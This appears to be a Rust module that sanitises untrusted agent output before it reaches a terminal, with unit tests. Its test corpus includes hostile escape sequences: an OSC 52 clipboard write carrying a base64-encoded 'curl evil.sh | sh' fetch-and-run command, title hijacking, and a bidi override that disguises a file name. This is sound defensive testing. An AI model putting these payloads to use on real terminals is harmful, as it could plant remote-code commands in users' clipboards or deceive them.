//! Making untrusted text inert before it reaches the terminal.
//!
//! Everything an agent sends may be hostile: escape sequences that set the
//! window title, write the clipboard (OSC 52), move the cursor or clear the
//! screen; C1 controls that some terminals obey; bidi overrides and
//! zero-width characters that disguise text. All of them are removed; line
//! breaks and tabs become spaces, so one value stays one line.

use unicode_width::UnicodeWidthChar;

/// True for characters that change how surrounding text is displayed
/// without being visible themselves: bidi controls and zero-width marks.
fn is_invisible_format(c: char) -> bool {
    matches!(
        c,
        '\u{200B}'..='\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{2069}'
            | '\u{FEFF}'
            | '\u{061C}'
    )
}

/// Removes escape sequences, control characters and invisible format
/// characters; tabs and line breaks become single spaces.
pub fn clean(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => skip_escape(&mut chars),
            // C1 introducers of strings (DCS, SOS, OSC, PM, APC) run to ST.
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            // CSI as a single C1 byte.
            '\u{9b}' => skip_csi(&mut chars),
            '\t' | '\n' | '\r' => {
                if !out.ends_with(' ') {
                    out.push(' ');
                }
            }
            c if c.is_control() || is_invisible_format(c) => {}
            c => out.push(c),
        }
    }
    out
}

fn skip_escape(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    match chars.next() {
        Some('[') => skip_csi(chars),
        Some(']' | 'P' | 'X' | '^' | '_') => skip_string(chars),
        // Two-character sequences (ESC 7, ESC c, …) and charset selection
        // (ESC ( B): drop the final byte(s).
        Some('(' | ')' | '*' | '+' | '#' | '%' | ' ') => {
            chars.next();
        }
        _ => {}
    }
}

fn skip_csi(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    // Parameters and intermediates, then one final byte in @..~.
    for c in chars.by_ref() {
        if ('\u{40}'..='\u{7e}').contains(&c) {
            return;
        }
        if !('\u{20}'..='\u{3f}').contains(&c) {
            return;
        }
    }
}

fn skip_string(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) {
    // Until BEL, ST (ESC \) or the C1 ST.
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return,
            '\u{1b}' => {
                if chars.peek() == Some(&'\\') {
                    chars.next();
                }
                return;
            }
            _ => {}
        }
    }
}

/// Display width of text in terminal columns.
pub fn width(text: &str) -> usize {
    text.chars().map(|c| c.width().unwrap_or(0)).sum()
}

/// Cleans `text` and cuts it to `max` columns, ending in `…` when cut.
pub fn fit(text: &str, max: usize) -> String {
    let clean = clean(text);
    if width(&clean) <= max {
        return clean;
    }
    if max == 0 {
        return String::new();
    }
    let mut out = String::new();
    let mut used = 0;
    for c in clean.chars() {
        let w = c.width().unwrap_or(0);
        if used + w > max - 1 {
            break;
        }
        out.push(c);
        used += w;
    }
    out.push('…');
    out
}

/// Cleans `text` and wraps it at word boundaries into lines of at most
/// `max` columns, at most `lines` of them (the last one cut with `…` when
/// more is left). A word longer than a line is cut across lines.
pub fn wrap(text: &str, max: usize, lines: usize) -> Vec<String> {
    let max = max.max(1);
    let mut out: Vec<String> = Vec::new();
    let mut line = String::new();
    let mut used = 0;
    for c in clean(text).chars() {
        let w = c.width().unwrap_or(0);
        if used + w > max {
            // Break at the last space of the line when there is one.
            let (head, tail) = match line.rfind(' ') {
                Some(i) if c != ' ' => (line[..i].to_string(), line[i + 1..].to_string()),
                _ => (line.clone(), String::new()),
            };
            out.push(head);
            line = tail;
            used = width(&line);
        }
        if !(line.is_empty() && c == ' ') {
            line.push(c);
            used += w;
        }
    }
    if !line.is_empty() || out.is_empty() {
        out.push(line);
    }
    if out.len() > lines {
        let rest = out[lines - 1..].join(" ");
        out.truncate(lines - 1);
        out.push(fit(&rest, max));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wrap_breaks_at_words_and_cuts_the_last_line() {
        assert_eq!(
            wrap("checkout agent double-charges", 12, 5),
            ["checkout", "agent", "double-charg", "es"]
        );
        assert_eq!(wrap("a b c d e f", 3, 2), ["a b", "c …"]);
        assert_eq!(wrap("", 10, 2), [""]);
        assert_eq!(wrap("short", 10, 2), ["short"]);
    }

    #[test]
    fn hostile_sequences_are_removed() {
        let corpus = [
            ("\u{1b}]0;pwned\u{7}title", "title"),
            ("\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{1b}\\clip", "clip"),
            ("\u{1b}[2J\u{1b}[Hclear", "clear"),
            ("\u{1b}[31;1mred\u{1b}[0m", "red"),
            ("\u{1b}P1;2|payload\u{1b}\\dcs", "dcs"),
            ("\u{9b}31mc1csi", "c1csi"),
            ("\u{9d}0;t\u{9c}c1osc", "c1osc"),
            ("a\u{202e}txt.exe", "atxt.exe"),
            ("zero\u{200b}width\u{feff}", "zerowidth"),
            ("bell\u{7}null\u{0}", "bellnull"),
            ("line\r\nbreak\ttab", "line break tab"),
            ("\u{1b}7\u{1b}8\u{1b}(Bsave", "save"),
            ("unterminated \u{1b}]0;forever", "unterminated "),
        ];
        for (input, want) in corpus {
            assert_eq!(clean(input), want, "{input:?}");
        }
    }

    #[test]
    fn fit_cuts_by_columns_with_an_ellipsis() {
        assert_eq!(fit("refund-bot", 20), "refund-bot");
        assert_eq!(fit("refund-bot", 6), "refun…");
        assert_eq!(fit("日本語のテキスト", 7), "日本語…");
        assert_eq!(fit("x", 0), "");
        assert!(width(&fit(&"w".repeat(10_000), 80)) <= 80);
    }

    #[test]
    fn clean_never_lets_an_escape_through() {
        let nasty: String = (0u32..0x200).filter_map(char::from_u32).collect();
        let out = clean(&nasty.repeat(3));
        assert!(!out.chars().any(|c| c.is_control()), "{out:?}");
    }
}
